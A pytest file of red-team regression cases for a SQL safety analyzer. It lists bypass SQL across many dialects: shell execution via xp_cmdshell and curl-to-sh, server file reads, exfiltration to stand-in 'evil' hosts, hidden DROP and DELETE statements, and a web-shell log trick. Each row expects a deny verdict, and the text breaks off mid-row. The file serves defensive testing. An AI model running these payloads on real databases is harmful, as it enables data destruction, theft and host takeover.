"""Red-team findings against the built-in baseline: every bypass found once stays closed.

Same row format as test_sql_catalogue.py: `case(dialect, sql, "expected intents", "expected
verdict")`. Each group's comment records what the analyzer said when the finding was made
("now: ..."), before it was fixed; the rows assert what it must say. Where the analyzer says
more than the finding asked for (a linked server is also host access, a scheduled job is also
dynamic) or fails closed on purpose (input that databases lex differently is `unparseable`),
the row expects that.
Rows are grouped by finding, most severe first. Severity:

  BYPASS   destructive / exfiltrating / privilege / host-reaching SQL is allowed
  WEAK     review where the baseline should deny (or allow where it should review)
  FP       benign, common ETL SQL that is denied or sent to review

"verified" means the database behaviour was reproduced on the local PostgreSQL 15 / MariaDB 10.11
/ SQLite 3.40 / DuckDB 2.0 with temporary tables; other behaviours cite the vendor documentation.

Run `.venv/bin/python -m pytest tests/core/test_redteam.py -q` to see the current verdict of every
row (a failing row prints what the analyzer said).
"""

from __future__ import annotations

import pytest


def case(
    dialect: str | None, sql: str, intents: str, verdict: str, id: str | None = None
) -> object:
    return pytest.param(
        dialect, sql, frozenset(intents.split()), verdict, id=id or f"{dialect}: {sql[:60]}"
    )


FINDINGS = [
    # ---------------------------------------------------------------------------------------
    # F01 BYPASS (critical) tsql: a statement that sqlglot keeps as a generic Command (SET,
    # DECLARE, BEGIN ... END, BEGIN TRY, GO) swallows the rest of a semicolon-less T-SQL batch,
    # and the keyword table classifies the whole chunk by its first word only (SET/BEGIN/GO ->
    # "no effect", DECLARE -> read). T-SQL does not need semicolons between statements and `GO`
    # is the sqlcmd/SSMS batch separator, so SQL Server runs every hidden statement.
    # now: allow [] baseline.allow (DECLARE rows: allow [read])
    case("tsql", "SET NOCOUNT ON DROP TABLE orders", "schema_change delete", "deny", id="F01a"),
    case(
        "tsql",
        "SET NOCOUNT ON;\nGO\nTRUNCATE TABLE orders",
        "delete mass_mutation",
        "deny",
        id="F01b",
    ),
    case("tsql", "GO\nDROP TABLE orders", "schema_change delete", "deny", id="F01c"),
    case(
        "tsql",
        "DECLARE @x INT = 1 DROP TABLE orders",
        "delete schema_change",
        "deny",
        id="F01d",
    ),
    case("tsql", "BEGIN DELETE FROM orders END", "delete mass_mutation", "deny", id="F01e"),
    case(
        "tsql",
        "BEGIN TRY DROP TABLE orders END TRY BEGIN CATCH END CATCH",
        "schema_change unparseable",
        "deny",
        id="F01f",
    ),
    case("tsql", "SET NOCOUNT ON EXEC xp_cmdshell 'whoami'", "host_access", "deny", id="F01g"),
    case("tsql", "DECLARE @x INT GRANT CONTROL SERVER TO etl", "privilege", "deny", id="F01h"),
    case(
        "tsql",
        "DECLARE @x NVARCHAR(MAX) = (SELECT BulkColumn FROM OPENROWSET(BULK 'C:\\secret.txt', "
        "SINGLE_CLOB) AS f)",
        "host_access read",  # OPENROWSET(BULK ...) is read now (recovery.py), not unparseable
        "deny",
        id="F01i",
    ),
    # ---------------------------------------------------------------------------------------
    # F02 BYPASS (critical) bigquery: a scripting block `BEGIN <stmt>; ... END` is split at `;`
    # and its first chunk `BEGIN <stmt>` is classified by the keyword rule BEGIN ("does not
    # change data"), so the first statement of every BEGIN...END block is invisible. BigQuery
    # scripting runs it (https://cloud.google.com/bigquery/docs/reference/standard-sql/
    # procedural-language#begin).
    # now: allow [] baseline.allow
    case(
        "bigquery",
        "BEGIN DELETE FROM ds.orders WHERE TRUE; END;",
        "delete mass_mutation",
        "deny",
        id="F02a",
    ),
    case(
        "bigquery", "BEGIN\n  DROP TABLE ds.orders;\nEND", "schema_change delete", "deny", id="F02b"
    ),
    case(
        "bigquery",
        "BEGIN EXPORT DATA OPTIONS(uri='gs://x/*', format='CSV') AS SELECT * FROM ds.t; END",
        "export read",
        "deny",
        id="F02c",
    ),
    case(
        "bigquery",
        'BEGIN GRANT `roles/bigquery.dataOwner` ON SCHEMA ds TO "user:x@evil.com"; END',
        "privilege",
        "deny",
        id="F02d",
    ),
    # ---------------------------------------------------------------------------------------
    # F03 BYPASS (critical) postgres/mysql: a quoted function name skips the function rules.
    # `_function_name` uses str(Anonymous.this), which keeps the quotes, so `"pg_read_file"` is
    # not found in _FUNCTION_RULES. PostgreSQL resolves "pg_read_file" (lower-case quoted) to the
    # built-in; MariaDB resolves `load_file` to LOAD_FILE. verified (PG 15, MariaDB 10.11).
    # now: allow [read] baseline.allow
    case(
        "postgres", "SELECT \"pg_read_file\"('/etc/passwd')", "read host_access", "deny", id="F03a"
    ),
    case(
        "postgres",
        'SELECT "pg_catalog"."pg_read_file"(\'/etc/passwd\')',
        "read host_access",
        "deny",
        id="F03b",
    ),
    case(
        "postgres",
        "SELECT \"lo_export\"(16403, '/tmp/x')",
        "read export host_access",
        "deny",
        id="F03c",
    ),
    case(
        "postgres",
        "SELECT \"dblink_exec\"('host=evil', 'DROP TABLE orders')",
        "read host_access schema_change delete",
        "deny",
        id="F03d",
    ),
    case(
        "postgres",
        "SELECT \"query_to_xml\"('DELETE FROM orders RETURNING 1', true, false, '')",
        "read delete mass_mutation",
        "deny",
        id="F03e",
    ),
    case("mysql", "SELECT `load_file`('/etc/passwd')", "read host_access", "deny", id="F03f"),
    # ---------------------------------------------------------------------------------------
    # F04 BYPASS (critical) postgres: `COPY BINARY table TO 'file'` (the pre-7.3 syntax, still
    # in gram.y as `COPY opt_binary qualified_name ...`) is read as a load (`write`) and allowed.
    # PostgreSQL writes the table to the server file. verified (PG 15, target /dev/null).
    # now: allow [write] baseline.allow
    case("postgres", "COPY BINARY customers TO '/tmp/c.bin'", "read export", "deny", id="F04"),
    # ---------------------------------------------------------------------------------------
    # F05 BYPASS (critical) postgres/duckdb: EXPLAIN's ANALYZE flag is found by a regex that only
    # allows whitespace between EXPLAIN, ANALYZE and the statement; a comment anywhere there
    # makes it "plans without running". Both databases treat comments as whitespace and run the
    # DELETE. verified (PG 15, DuckDB 2.0: all rows deleted).
    # now: allow [read] baseline.allow
    case(
        "postgres",
        "EXPLAIN /* x */ ANALYZE DELETE FROM orders",
        "read delete mass_mutation",
        "deny",
        id="F05a",
    ),
    case(
        "postgres",
        "EXPLAIN ANALYZE/**/DELETE FROM orders",
        "read delete mass_mutation",
        "deny",
        id="F05b",
    ),
    case(
        "postgres",
        "EXPLAIN\n-- plan\nANALYZE DELETE FROM orders",
        "read delete mass_mutation",
        "deny",
        id="F05c",
    ),
    case(
        "duckdb",
        "EXPLAIN /* x */ ANALYZE DELETE FROM orders",
        "read delete mass_mutation",
        "deny",
        id="F05d",
    ),
    # ---------------------------------------------------------------------------------------
    # F06 BYPASS (critical) mysql/mariadb/None: `--` not followed by whitespace is NOT a comment
    # in MySQL, so `/*! ... */` after it is executable; the analyzer's unwrapping of MySQL
    # executable comments skipped every `--` to end of line (without the whitespace check the
    # mysql tokenizer does apply), left the marker, and sqlglot read `/*! ... */` as a comment.
    # MariaDB evaluates `id = 5 - - 1 OR 1 = 1`. verified (MariaDB 10.11: all rows deleted).
    # now: allow [delete] baseline.allow
    case(
        "mysql",
        "DELETE FROM orders WHERE id = 5 --/*! 1 OR 1 =*/ 1",
        "unparseable",
        "deny",
        id="F06a",
    ),
    case(
        "mariadb",
        "DELETE FROM orders WHERE id = 5 --/*! 1 OR 1 =*/ 1",
        "unparseable",
        "deny",
        id="F06b",
    ),
    case(
        None,
        "DELETE FROM orders WHERE id = 5 --/*! 1 OR 1 =*/ 1",
        "unparseable",
        "deny",
        id="F06c",
    ),
    # ---------------------------------------------------------------------------------------
    # F07 BYPASS (critical) dialect=None: the analyzer says it "cannot rule MySQL out" (it unwraps
    # /*! */ for None) but tokenises with sqlglot's generic lexer, which (a) nests /* */ comments
    # (MySQL does not), (b) treats `--1` as a comment (MySQL needs `-- `), (c) has no backslash
    # escapes (MySQL, Snowflake, BigQuery, Spark, ClickHouse do). Each hides a statement MySQL
    # runs. verified (MariaDB 10.11: table dropped / all rows deleted).
    # now: allow [read] (c: allow [delete]) baseline.allow
    case(
        None,
        "SELECT 1 /* /* */ ; DROP TABLE orders; -- */",
        "unparseable",
        "deny",
        id="F07a",
    ),
    case(
        None,
        "SELECT '\\', '; DROP TABLE orders; -- '",
        "unparseable",
        "deny",
        id="F07b",
    ),
    case(
        None,
        "DELETE FROM orders WHERE id = 5 --1 OR 1=1",
        "unparseable",
        "deny",
        id="F07c",
    ),
    # ---------------------------------------------------------------------------------------
    # F08 BYPASS (high) mysql/mariadb: the mysql tokenizer always applies backslash escapes and
    # `"` strings, but a `SET sql_mode` earlier in the same script changes how the server lexes
    # the following statements (the server parses multi-statements one at a time; the mysql CLI
    # also honours SERVER_STATUS_NO_BACKSLASH_ESCAPES when splitting). Same for a server whose
    # global sql_mode has NO_BACKSLASH_ESCAPES/ANSI_QUOTES. verified (MariaDB 10.11).
    # now: allow [read] baseline.allow
    case(
        "mysql",
        "SET sql_mode = 'NO_BACKSLASH_ESCAPES'; SELECT 'a\\'; DROP TABLE orders; -- '",
        "unparseable",
        "deny",
        id="F08a",
    ),
    case(
        "mysql",
        'SET SESSION sql_mode = \'ANSI_QUOTES\'; SELECT 1 AS "a\\"; DROP TABLE orders; -- "',
        "unparseable",
        "deny",
        id="F08b",
    ),
    # ---------------------------------------------------------------------------------------
    # F09 BYPASS (high) MERGE that deletes every row is allowed. `WHEN NOT MATCHED BY SOURCE
    # THEN DELETE` deletes every target row without a match; with an always-false ON (or an
    # empty source) that is all of them, but _handle_merge only flags always-TRUE ON. A MERGE
    # of a table with itself on its key deletes every row (ids are never NULL for a PK).
    # Semantics: T-SQL MERGE docs, BigQuery DML docs, Databricks MERGE docs, PostgreSQL 17 MERGE.
    # now: allow [delete read write] baseline.allow
    case(
        "tsql",
        "MERGE INTO orders AS t USING staging AS s ON 1 = 0 "
        "WHEN NOT MATCHED BY SOURCE THEN DELETE;",
        "read write delete mass_mutation",
        "deny",
        id="F09a",
    ),
    case(
        "bigquery",
        "MERGE ds.orders t USING ds.staging s ON FALSE WHEN NOT MATCHED BY SOURCE THEN DELETE",
        "read write delete mass_mutation",
        "deny",
        id="F09b",
    ),
    case(
        "databricks",
        "MERGE INTO orders t USING staging s ON 1 = 0 WHEN NOT MATCHED BY SOURCE THEN DELETE",
        "read write delete mass_mutation",
        "deny",
        id="F09c",
    ),
    case(
        "postgres",
        "MERGE INTO orders t USING (SELECT 1 AS id WHERE FALSE) s ON t.id = s.id "
        "WHEN NOT MATCHED BY SOURCE THEN DELETE",
        "write delete mass_mutation",
        "deny",
        id="F09d",
    ),
    case(
        "postgres",
        "MERGE INTO orders t USING orders s ON t.id = s.id WHEN MATCHED THEN DELETE",
        "read write delete mass_mutation",
        "deny",
        id="F09e",
    ),
    # ---------------------------------------------------------------------------------------
    # F10 BYPASS (high) always-true WHERE clauses that predicate_truth misses: boolean tests
    # (IS TRUE), casts, arithmetic, function calls on constants, LIKE/ILIKE/SIMILAR/REGEXP
    # matching everything, scalar/quantified subqueries, CASE, IS NOT DISTINCT FROM under NOT,
    # qualified vs unqualified self comparisons, self-referencing IN/EXISTS subqueries, and
    # MySQL's truthy strings / hex / bit literals. verified: every postgres row on PG 15 and every
    # mysql row on MariaDB 10.11 deleted all rows of a 3-row table.
    # now: allow [delete] (subquery rows: allow [delete read]) baseline.allow
    case(
        "postgres",
        "DELETE FROM orders WHERE TRUE IS TRUE",
        "delete mass_mutation",
        "deny",
        id="F10a",
    ),
    case(
        "postgres",
        "DELETE FROM orders WHERE 'x' LIKE 'x'",
        "delete mass_mutation",
        "deny",
        id="F10b",
    ),
    case(
        "postgres",
        "DELETE FROM orders WHERE CAST(1 AS BOOL)",
        "delete mass_mutation",
        "deny",
        id="F10c",
    ),
    case(
        "postgres",
        "DELETE FROM orders WHERE 't'::boolean",
        "delete mass_mutation",
        "deny",
        id="F10d",
    ),
    case(
        "postgres", "DELETE FROM orders WHERE 1 + 1 = 2", "delete mass_mutation", "deny", id="F10e"
    ),
    case(
        "postgres",
        "DELETE FROM orders WHERE COALESCE(NULL, 1) = 1",
        "delete mass_mutation",
        "deny",
        id="F10f",
    ),
    case(
        "postgres",
        "DELETE FROM orders WHERE (SELECT 1) = 1",
        "delete mass_mutation",
        "deny",
        id="F10g",
    ),
    case(
        "postgres",
        "DELETE FROM orders WHERE 1 = ALL(SELECT 1)",
        "delete mass_mutation",
        "deny",
        id="F10h",
    ),
    case(
        "postgres",
        "DELETE FROM orders WHERE 1 = ANY(ARRAY[1])",
        "delete mass_mutation",
        "deny",
        id="F10i",
    ),
    case(
        "postgres",
        "DELETE FROM orders WHERE CASE WHEN TRUE THEN TRUE END",
        "delete mass_mutation",
        "deny",
        id="F10j",
    ),
    case(
        "postgres",
        "DELETE FROM orders WHERE note ILIKE '%'",
        "delete mass_mutation",
        "deny",
        id="F10k",
    ),
    case(
        "postgres",
        "DELETE FROM orders WHERE NOT (id IS DISTINCT FROM id)",
        "delete mass_mutation",
        "deny",
        id="F10l",
    ),
    case(
        "postgres",
        "DELETE FROM orders WHERE orders.id = id",
        "delete mass_mutation",
        "deny",
        id="F10m",
    ),
    case(
        "postgres",
        "DELETE FROM orders WHERE id IN (SELECT id FROM orders)",
        "read delete mass_mutation",
        "deny",
        id="F10n",
    ),
    case(
        "postgres",
        "DELETE FROM orders WHERE EXISTS (SELECT 1 FROM orders)",
        "read delete mass_mutation",
        "deny",
        id="F10o",
    ),
    case("mysql", "DELETE FROM orders WHERE '1'", "delete mass_mutation", "deny", id="F10p"),
    case("mysql", "DELETE FROM orders WHERE 0x1", "delete mass_mutation", "deny", id="F10q"),
    case("mysql", "DELETE FROM orders WHERE 1 IS TRUE", "delete mass_mutation", "deny", id="F10r"),
    case(
        "mysql",
        "DELETE FROM orders WHERE note REGEXP '.*'",
        "delete mass_mutation",
        "deny",
        id="F10s",
    ),
    case(
        "mysql",
        "DELETE FROM orders WHERE id IN (SELECT * FROM (SELECT id FROM orders) x)",
        "read delete mass_mutation",
        "deny",
        id="F10t",
    ),
    # ---------------------------------------------------------------------------------------
    # F11 BYPASS (high) code created and triggered in the same script: the body of a SQL /
    # PL/pgSQL function, a rule or a trigger is not analysed, and calling the function is a
    # plain SELECT. verified (PG 15: function call and rule both emptied the table).
    # now: allow [read schema_change] / allow [schema_change] baseline.allow
    case(
        "postgres",
        "CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS $$ DELETE FROM orders "
        "$$; SELECT wipe();",
        "schema_change read delete mass_mutation",
        "deny",
        id="F11a",
    ),
    case(
        "postgres",
        "CREATE OR REPLACE FUNCTION wipe() RETURNS void LANGUAGE plpgsql AS $$ "
        "BEGIN DROP TABLE orders; END $$; SELECT wipe();",
        "delete read schema_change",
        "deny",
        id="F11b",
    ),
    case(
        "postgres",
        "CREATE FUNCTION wipe() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM "
        "orders; END; SELECT wipe();",
        "schema_change read delete mass_mutation",
        "deny",
        id="F11c",
    ),
    case(
        "postgres",
        "CREATE RULE r AS ON INSERT TO events DO ALSO DELETE FROM orders",
        "schema_change delete mass_mutation",
        "deny",
        id="F11d",
    ),
    case(
        "mysql",
        "CREATE TRIGGER t BEFORE INSERT ON events FOR EACH ROW DELETE FROM orders",
        "schema_change delete mass_mutation",
        "deny",
        id="F11e",
    ),
    case(
        "sqlite",
        "CREATE TRIGGER t AFTER INSERT ON events BEGIN DELETE FROM orders; END",
        "schema_change delete mass_mutation",
        "deny",
        id="F11f",
    ),
    # ---------------------------------------------------------------------------------------
    # F12 BYPASS (high) scheduled SQL: schedulers run literal SQL later (or immediately) with the
    # creator's rights; the literal/body is not analysed. MySQL CREATE EVENT ... AT
    # CURRENT_TIMESTAMP fires at once (event_scheduler is ON by default since 8.0); pg_cron's
    # cron.schedule(schedule, command); Snowflake CREATE TASK ... AS <sql>.
    # now: allow [schema_change] / allow [read] baseline.allow
    case(
        "mysql",
        "CREATE EVENT e ON SCHEDULE AT CURRENT_TIMESTAMP DO DROP TABLE orders",
        "schema_change delete",
        "deny",
        id="F12a",
    ),
    case(
        "postgres",
        "SELECT cron.schedule('* * * * *', 'DROP TABLE orders')",
        "delete dynamic read schema_change",
        "deny",
        id="F12b",
    ),
    case(
        "snowflake",
        "CREATE TASK t SCHEDULE = '1 minute' AS DELETE FROM orders",
        "schema_change delete mass_mutation",
        "deny",
        id="F12c",
    ),
    # ---------------------------------------------------------------------------------------
    # F13 BYPASS (high) host code execution through untrusted languages / native libraries:
    # CREATE FUNCTION ... LANGUAGE plpython3u|C (the classic `'libc.so.6', 'system'` RCE),
    # MySQL UDF from a shared object (SONAME), Redshift plpythonu, file_fdw `program` option
    # (runs a shell command on every scan) and `filename` (reads any server file, like
    # pg_read_file). All are `schema_change` and allowed; LOAD '<lib>' is already host_access.
    # now: allow [schema_change] baseline.allow
    case(
        "postgres",
        "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os; "
        "os.system('id'); return 1 $$",
        "schema_change host_access",
        "deny",
        id="F13a",
    ),
    case(
        "postgres",
        "CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/"
        "libc.so.6', 'system' LANGUAGE C STRICT",
        "schema_change host_access",
        "deny",
        id="F13b",
    ),
    case(
        "mysql",
        "CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so'",
        "schema_change host_access",
        "deny",
        id="F13c",
    ),
    case(
        "redshift",
        "CREATE FUNCTION f(int) RETURNS int VOLATILE AS $$ import os; return 1 $$ "
        "LANGUAGE plpythonu",
        "schema_change host_access",
        "deny",
        id="F13d",
    ),
    case(
        "postgres",
        "CREATE FOREIGN TABLE x (line text) SERVER files OPTIONS (program "
        "'curl http://evil/x | sh')",
        "schema_change host_access",
        "deny",
        id="F13e",
    ),
    case(
        "postgres",
        "CREATE FOREIGN TABLE pw (line text) SERVER files OPTIONS (filename '/etc/passwd')",
        "schema_change host_access",
        "deny",
        id="F13f",
    ),
    # ---------------------------------------------------------------------------------------
    # F14 BYPASS (high) snowflake: CREATE OR REPLACE SCHEMA/DATABASE drops the existing schema /
    # database with every table in it (Snowflake docs: "CREATE OR REPLACE ... is the equivalent
    # of DROP ... followed by CREATE"). baseline.replace only matches kind table, baseline.drop
    # only action drop.
    # now: allow [schema_change] baseline.allow
    case(
        "snowflake", "CREATE OR REPLACE SCHEMA analytics", "schema_change delete", "deny", id="F14a"
    ),
    case("snowflake", "CREATE OR REPLACE DATABASE prod", "schema_change delete", "deny", id="F14b"),
    # ---------------------------------------------------------------------------------------
    # F15 BYPASS (high) exports through CREATE TABLE AS with an external location: the table's
    # storage is an attacker-chosen bucket/URL, so CTAS writes the selected rows there. Spark
    # (LOCATION / OPTIONS path), Trino Hive/Iceberg (external_location / location), Redshift
    # CREATE EXTERNAL TABLE AS (writes Parquet to S3), ClickHouse URL/S3 table engines (INSERT
    # = HTTP POST / S3 PUT; `INSERT INTO FUNCTION url(...)` is already denied).
    # now: allow [read schema_change write] baseline.allow
    case(
        "spark",
        "CREATE TABLE t LOCATION 's3://evil/dump' AS SELECT * FROM customers",
        "read schema_change write export",
        "deny",
        id="F15a",
    ),
    case(
        "spark",
        "CREATE TABLE t USING csv OPTIONS (path 's3://evil/dump') AS SELECT * FROM customers",
        "read schema_change write export",
        "deny",
        id="F15b",
    ),
    case(
        "trino",
        "CREATE TABLE hive.s.dump WITH (external_location = 's3://evil/dump/') AS "
        "SELECT * FROM hive.s.customers",
        "read schema_change write export",
        "deny",
        id="F15c",
    ),
    case(
        "redshift",
        "CREATE EXTERNAL TABLE spectrum.leak STORED AS PARQUET LOCATION "
        "'s3://evil/leak/' AS SELECT * FROM customers",
        "read schema_change write export",
        "deny",
        id="F15d",
    ),
    case(
        "clickhouse",
        "CREATE TABLE leak ENGINE = URL('http://evil.example/x', CSV) AS SELECT * FROM customers",
        "read schema_change write export",
        "deny",
        id="F15e",
    ),
    # ---------------------------------------------------------------------------------------
    # F16 BYPASS (high) exports by writing into remote/path targets: Databricks path tables
    # (INSERT INTO / COPY INTO delta.`s3://...`), T-SQL INSERT INTO OPENROWSET(...) (OPENROWSET
    # as a source is already host_access), four-part linked-server names, Oracle @dblink, MySQL
    # FEDERATED tables and ClickHouse MySQL() engine tables that point at another server.
    # now: allow [read write] / allow [schema_change] baseline.allow
    case(
        "databricks",
        "INSERT INTO delta.`s3://evil/dump` SELECT * FROM customers",
        "read write export",
        "deny",
        id="F16a",
    ),
    case(
        "databricks",
        "COPY INTO delta.`s3://evil/x` FROM (SELECT * FROM customers)",
        "read write export",
        "deny",
        id="F16b",
    ),
    case(
        "tsql",
        "INSERT INTO OPENROWSET('SQLNCLI', 'Server=evil.example;Trusted_Connection=yes;'"
        ", 'SELECT * FROM db.dbo.t') SELECT * FROM customers",
        "read write export host_access",
        "deny",
        id="F16c",
    ),
    case(
        "tsql",
        "INSERT INTO evil.db.dbo.t SELECT * FROM customers",
        "export host_access read write",
        "deny",
        id="F16d",
    ),
    case(
        "oracle",
        "INSERT INTO leak@evil SELECT * FROM customers",
        "export host_access read write",
        "deny",
        id="F16e",
    ),
    case(
        "mysql",
        "CREATE TABLE fed (id INT) ENGINE=FEDERATED CONNECTION='mysql://u:p@evil."
        "example:3306/db/t'",
        "schema_change host_access",
        "deny",
        id="F16f",
    ),
    # ---------------------------------------------------------------------------------------
    # F17 BYPASS (high) snowflake: database replication to another account copies the whole
    # database out of the account (Snowflake docs: ALTER DATABASE ... ENABLE REPLICATION TO
    # ACCOUNTS). CREATE SHARE / ALTER SHARE are already denied (unparseable).
    # now: allow [schema_change] baseline.allow
    case(
        "snowflake",
        "ALTER DATABASE prod ENABLE REPLICATION TO ACCOUNTS evilorg.acct",
        "schema_change export",
        "deny",
        id="F17",
    ),
    # ---------------------------------------------------------------------------------------
    # F18 BYPASS (high) clickhouse: partition/TTL/column operations that destroy all data are
    # `schema_change`. An unpartitioned MergeTree table has a single partition `tuple()` (ID
    # 'all'), so DROP PARTITION tuple() empties it; REPLACE PARTITION from an empty table does
    # the same; MODIFY TTL <expired> deletes every row (TTL is materialised for existing parts
    # by default); CLEAR COLUMN wipes a column like DROP COLUMN; MOVE PARTITION moves the rows
    # to another table (ClickHouse docs: ALTER TABLE ... PARTITION, TTL, CLEAR COLUMN).
    # now: allow [schema_change] (REPLACE: allow [read schema_change]) baseline.allow
    case(
        "clickhouse",
        "ALTER TABLE events DROP PARTITION tuple()",
        "delete mass_mutation",
        "deny",
        id="F18a",
    ),
    case(
        "clickhouse",
        "ALTER TABLE events DROP PARTITION ID 'all'",
        "delete mass_mutation",
        "deny",
        id="F18b",
    ),
    case(
        "clickhouse",
        "ALTER TABLE events REPLACE PARTITION tuple() FROM empty_events",
        "delete mass_mutation read",
        "deny",
        id="F18c",
    ),
    case(
        "clickhouse",
        "ALTER TABLE events MODIFY TTL ts + INTERVAL 0 SECOND",
        "delete mass_mutation schema_change",
        "deny",
        id="F18d",
    ),
    case(
        "clickhouse",
        "ALTER TABLE events CLEAR COLUMN email",
        "schema_change delete",
        "deny",
        id="F18e",
    ),
    # ---------------------------------------------------------------------------------------
    # F19 BYPASS (high) dropping a column without the COLUMN keyword. `ALTER TABLE t DROP c` is
    # valid and drops column c in SQLite (parse.y: DROP kwcolumn_opt nm), DuckDB and Snowflake
    # (DROP [COLUMN]), and PostgreSQL/MySQL (so also for dialect=None); only the postgres,
    # mysql and redshift dialects deny it. Oracle's `DROP (col)` form is also missed.
    # verified (SQLite 3.40, DuckDB 2.0, PG 15: column gone).
    # now: allow [schema_change] baseline.allow
    case("sqlite", "ALTER TABLE orders DROP total", "schema_change delete", "deny", id="F19a"),
    case("duckdb", "ALTER TABLE orders DROP total", "schema_change delete", "deny", id="F19b"),
    case("snowflake", "ALTER TABLE orders DROP total", "schema_change delete", "deny", id="F19c"),
    case(None, "ALTER TABLE orders DROP total", "schema_change delete", "deny", id="F19d"),
    case("oracle", "ALTER TABLE orders DROP (total)", "schema_change delete", "deny", id="F19e"),
    # ---------------------------------------------------------------------------------------
    # F20 BYPASS (medium) other column/partition destruction read as plain schema changes:
    # PostgreSQL `ALTER COLUMN ... TYPE ... USING NULL` (every value becomes NULL) and
    # `DROP DOMAIN|EXTENSION ... CASCADE` (drops every column of that type; DROP TYPE CASCADE is
    # denied only because TYPE falls back to kind TABLE); MySQL `TRUNCATE PARTITION ALL` (every
    # row) and `DISCARD TABLESPACE` (deletes the .ibd file); Oracle `SET UNUSED COLUMN`
    # (irreversible, the column is logically dropped). verified (PG 15: USING NULL, DOMAIN).
    # now: allow [schema_change] baseline.allow
    case(
        "postgres",
        "ALTER TABLE orders ALTER COLUMN total TYPE numeric USING NULL",
        "schema_change delete mass_mutation",
        "deny",
        id="F20a",
    ),
    case("postgres", "DROP DOMAIN email CASCADE", "schema_change delete", "deny", id="F20b"),
    case("postgres", "DROP EXTENSION postgis CASCADE", "schema_change delete", "deny", id="F20c"),
    case(
        "mysql",
        "ALTER TABLE orders TRUNCATE PARTITION ALL",
        "schema_change delete mass_mutation",
        "deny",
        id="F20d",
    ),
    case(
        "mysql",
        "ALTER TABLE orders DISCARD TABLESPACE",
        "schema_change delete mass_mutation",
        "deny",
        id="F20e",
    ),
    case(
        "oracle",
        "ALTER TABLE orders SET UNUSED COLUMN total",
        "schema_change delete",
        "deny",
        id="F20f",
    ),
    # ---------------------------------------------------------------------------------------
    # F21 BYPASS (medium) oracle: only utl_file/utl_http/utl_tcp/utl_smtp/dbms_scheduler/
    # dbms_java/dbms_sql are known. Out-of-band exfiltration through DNS (UTL_INADDR), HTTP
    # (HTTPURITYPE, DBMS_CLOUD.SEND_REQUEST), LDAP (DBMS_LDAP), server file writes
    # (DBMS_XSLPROCESSOR.CLOB2FILE) and new database links are allowed.
    # now: allow [read] / allow [schema_change] baseline.allow
    case(
        "oracle",
        "SELECT UTL_INADDR.GET_HOST_ADDRESS((SELECT password FROM users WHERE ROWNUM "
        "= 1) || '.evil.example') FROM dual",
        "read export privilege",
        "deny",
        id="F21a",
    ),
    case(
        "oracle",
        "SELECT HTTPURITYPE('http://evil.example/x').GETCLOB() FROM dual",
        "read export",
        "deny",
        id="F21b",
    ),
    case(
        "oracle",
        "SELECT DBMS_LDAP.INIT('evil.example', 389) FROM dual",
        "read export",
        "deny",
        id="F21c",
    ),
    case(
        "oracle",
        "SELECT DBMS_CLOUD.SEND_REQUEST('cred', 'https://evil.example', 'GET') FROM dual",
        "read export",
        "deny",
        id="F21d",
    ),
    case(
        "oracle",
        "SELECT DBMS_XSLPROCESSOR.CLOB2FILE(c, 'DIR', 'x.txt') FROM t",
        "read host_access",
        "deny",
        id="F21e",
    ),
    case(
        "oracle",
        "CREATE DATABASE LINK evil CONNECT TO u IDENTIFIED BY p USING 'evil.example:1521/x'",
        "schema_change host_access",
        "deny",
        id="F21f",
    ),
    # ---------------------------------------------------------------------------------------
    # F22 BYPASS (medium) other host reach / out-of-band channels: PostgreSQL CREATE SUBSCRIPTION
    # connects to any host (CREATE SERVER is already host_access); ClickHouse executable() and
    # EXECUTABLE dictionary sources run scripts; SQLite load_extension() loads native code;
    # Snowflake SYSTEM$SEND_EMAIL sends data by e-mail; URL-reading table functions whose URL
    # is built from a subquery send the data in the request (DuckDB read_csv, ClickHouse url).
    # now: allow [schema_change] / allow [read] baseline.allow
    case(
        "postgres",
        "CREATE SUBSCRIPTION s CONNECTION 'host=evil.example dbname=x' PUBLICATION p",
        "schema_change host_access",
        "deny",
        id="F22a",
    ),
    case(
        "clickhouse",
        "SELECT * FROM executable('evil.sh', 'TSV', 'x String')",
        "read host_access unknown",
        "deny",
        id="F22b",
    ),
    case(
        "clickhouse",
        "CREATE DICTIONARY d (id UInt64) PRIMARY KEY id SOURCE(EXECUTABLE(COMMAND "
        "'cat /etc/passwd' FORMAT 'TSV')) LAYOUT(FLAT()) LIFETIME(0)",
        "schema_change host_access",
        "deny",
        id="F22c",
    ),
    case("sqlite", "SELECT load_extension('/tmp/evil.so')", "read host_access", "deny", id="F22d"),
    case(
        "snowflake",
        "SELECT SYSTEM$SEND_EMAIL('mail', 'x@evil.com', 'dump', 'body')",
        "read export",
        "deny",
        id="F22e",
    ),
    case(
        "duckdb",
        "SELECT * FROM read_csv('http://evil.example/?d=' || (SELECT "
        "string_agg(email, ',') FROM customers))",
        "read export",
        "deny",
        id="F22f",
    ),
    case(
        "clickhouse",
        "SELECT * FROM url('http://evil.example/?' || (SELECT groupArray(email) "
        "FROM customers), 'CSV', 'a String')",
        "read export host_access",
        "deny",
        id="F22g",
    ),
    # ---------------------------------------------------------------------------------------
    # F23 BYPASS (medium) mysql: server configuration through SET GLOBAL/PERSIST is "no effect",
    # while PostgreSQL's ALTER SYSTEM is host_access. general_log_file + general_log is the
    # classic way to write an attacker-controlled file (web shell) on the server; sql_log_bin=0
    # hides the session's changes from replication/audit (needs SUPER / SYSTEM_VARIABLES_ADMIN).
    # now: allow [] baseline.allow
    case(
        "mysql",
        "SET GLOBAL general_log_file = '/var/www/html/x.php'",
        "host_access privilege",
        "deny",
        id="F23a",
    ),
    case("mysql", "SET PERSIST secure_file_priv = ''", "host_access", "deny", id="F23b"),
    case("mysql", "SET sql_log_bin = 0", "privilege", "deny", id="F23c"),
    # ---------------------------------------------------------------------------------------
    # F24 BYPASS (medium) privilege / ownership / access-control changes not recognised:
    # Trino SET AUTHORIZATION (ownership, like PostgreSQL OWNER TO which is denied), T-SQL
    # TRUSTWORTHY ON (classic db_owner -> sysadmin escalation), removing row-level security and
    # masking (PostgreSQL DISABLE ROW LEVEL SECURITY, Snowflake UNSET ROW ACCESS POLICY / MASKING
    # POLICY, Databricks DROP MASK / DROP ROW FILTER; creating/altering those policies is already
    # `privilege`).
    # now: allow [schema_change] baseline.allow
    case(
        "trino",
        "ALTER SCHEMA s SET AUTHORIZATION evil",
        "schema_change privilege",
        "deny",
